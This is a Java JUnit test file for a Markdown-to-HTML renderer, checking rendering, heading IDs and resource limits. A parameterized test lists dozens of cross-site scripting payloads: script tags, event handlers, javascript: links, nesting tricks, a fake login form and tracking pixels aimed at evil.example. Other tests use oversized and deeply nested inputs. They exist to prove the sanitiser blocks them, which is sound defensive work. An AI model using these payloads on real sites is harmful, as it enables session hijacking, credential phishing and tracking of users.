package dev.bulletin.report.render;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Duration;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MarkdownTest {
  private final Markdown markdown = new Markdown();

  @Test
  void rendersParagraphsEmphasisAndLinks() {
    assertThat(markdown.toHtml("Bitcoin **rose**, see [here](https://example.org/a?b=c)."))
        .isEqualTo(
            "<p>Bitcoin <strong>rose</strong>, see"
                + " <a href=\"https://example.org/a?b&#61;c\">here</a>.</p>\n");
  }

  @Test
  void rendersTablesWithTheirAlignment() {
    assertThat(markdown.toHtml("| a | b |\n|---|--:|\n| 1 | 2 |"))
        .contains("<thead>", "<th>a</th>", "<th align=\"right\">b</th>", "<td>1</td>");
  }

  @Test
  void headingsCanBeLinkedToByTheirWords() {
    assertThat(markdown.toHtml("## Triển vọng tuần"))
        .isEqualTo("<h2 id=\"s-triển-vọng-tuần\">Triển vọng tuần</h2>\n");
  }

  @Test
  void headingsOfTheSameWordsHaveNamesOfTheirOwn() {
    assertThat(markdown.toHtml("## Prices\n\n## Prices"))
        .contains("id=\"s-prices\"", "id=\"s-prices-1\"");
  }

  @Test
  void leavesTheTopHeadingToThePage() {
    assertThat(markdown.toHtml("# Prices\n\n<h1>More</h1>"))
        .isEqualTo("<h2 id=\"s-prices\">Prices</h2>\n<h2>More</h2>\n");
  }

  @Test
  void keepsTheLanguageOfCode() {
    assertThat(markdown.toHtml("```json\n{}\n```")).contains("<code class=\"language-json\">");
  }

  @Test
  void keepsHarmlessHtml() {
    assertThat(markdown.toHtml("<table><tr><td>1</td></tr></table>")).contains("<td>1</td>");
  }

  @Test
  void keepsImagesOfThisHostAndOfOthersOnlyWhatTheySay() {
    assertThat(markdown.toHtml("![a chart](/images/chart.png)"))
        .isEqualTo("<p><img src=\"/images/chart.png\" alt=\"a chart\" /></p>\n");
    assertThat(markdown.toHtml("![a chart](https://evil.example/pixel.png)"))
        .isEqualTo("<p><img alt=\"a chart\" /></p>\n");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src='javascript:alert(1)'>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](data:image/svg+xml;base64,PHN2Zy8+)",
        "![x](https://evil.example/pixel.png)",
        "![x](//evil.example/pixel.png)",
        "![x](/\\evil.example/pixel.png)",
        "![x](/%09/evil.example/pixel.png)",
        "<img src='/&#9;/evil.example/pixel.png'>",
        "<img src='&#47;&#47;evil.example/pixel.png'>",
        "<img src=/own.png srcset='https://evil.example/pixel.png 2x'>",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        "![x](x\" onerror=\"alert(1))",
        "[x](https://a.example \"t\\\" onmouseover=alert(1) x=\\\"\")",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"https://a.example\" onclick=\"alert(1)\" style=\"position:fixed\">x</a>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
        "<form action=\"https://evil.example\"><input name=password><button>Log in</button></form>",
        "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=//e.example\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\"><style>*{display:none}</style>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<details open ontoggle=alert(1)>x</details>",
        "<p><![CDATA[<script>alert(1)</script>]]></p>",
        "<!--><script>alert(1)</script>-->",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<h2 id=\"location\" name=\"cookie\">x</h2>",
        "<div id=main class=banner>x</div>",
        "```\"><script>alert(1)</script>\nx\n```",
        "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
        "{{constructor.constructor('alert(1)')()}}",
        "<textarea></textarea><xmp><script>alert(1)</script></xmp><plaintext>",
        "\u0000<script\u0000>alert(1)</script>"
      })
  void nothingExecutableSurvives(String vector) {
    SafeHtml.assertSafe(markdown.toHtml(vector));
    SafeHtml.assertSafe(markdown.toHtml("> - *x* " + vector));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<p onclick=\"x\">a</p>",
        "<script>x</script>",
        "<a href=\"javascript:x\">a</a>",
        "<a href=\"//x.example\" target=\"_top\">a</a>",
        "<h2 id=\"location\">a</h2>",
        "<img src=\"https://evil.example/pixel.png\" />",
        "<img src=\"//evil.example/pixel.png\" />",
        "a < b",
        "<p title='x'>a</p>"
      })
  void theCheckOfTheseTestsFindsWhatIsNotSafe(String html) {
    assertThatThrownBy(() -> SafeHtml.assertSafe(html)).isInstanceOf(AssertionError.class);
  }

  @ParameterizedTest
  @ValueSource(strings = {"<", "a<?", "a<!x", "`a", "![", "*a **b ", "[a](", "a<![CDATA["})
  void refusesAParagraphThatWouldTakeForever(String opening) {
    assertRefusedQuickly(opening.repeat((1 << 20) / opening.length()));
  }

  @Test
  void refusesATableOfMoreCellsThanMemoryHolds() {
    String head = "|a".repeat(5_000) + "\n" + "|-".repeat(5_000) + "\n";
    assertRefusedQuickly(head + "|1\n".repeat(10_000));
  }

  @ParameterizedTest
  @ValueSource(strings = {"a\n", "|\n", "> a\n"})
  void refusesAParagraphOfTooManyLines(String line) {
    assertRefusedQuickly(line.repeat((1 << 20) / line.length()));
  }

  @ParameterizedTest
  @ValueSource(strings = {">", "- ", "1. ", "> * "})
  void refusesWhatIsNestedTooDeeply(String block) {
    assertRefusedQuickly(block.repeat(100_000) + "a");
  }

  @Test
  void acceptsALongReport() {
    String paragraph = "A **bold** word, a [link](https://example.org) and `code` < 5 & more. ";
    String table = "| a | b |\n|---|---|\n" + "| 1 | 2 |\n".repeat(50);
    String body = (paragraph.repeat(20) + "\n\n" + table + "\n").repeat(300);
    assertThat(body.length()).isBetween(500_000, 1 << 20);
    markdown.check(body);
  }

  private void assertRefusedQuickly(String body) {
    Assertions.assertTimeoutPreemptively(
        Duration.ofSeconds(10),
        () ->
            assertThatThrownBy(() -> markdown.check(body)).isInstanceOf(TooComplexException.class));
  }
}
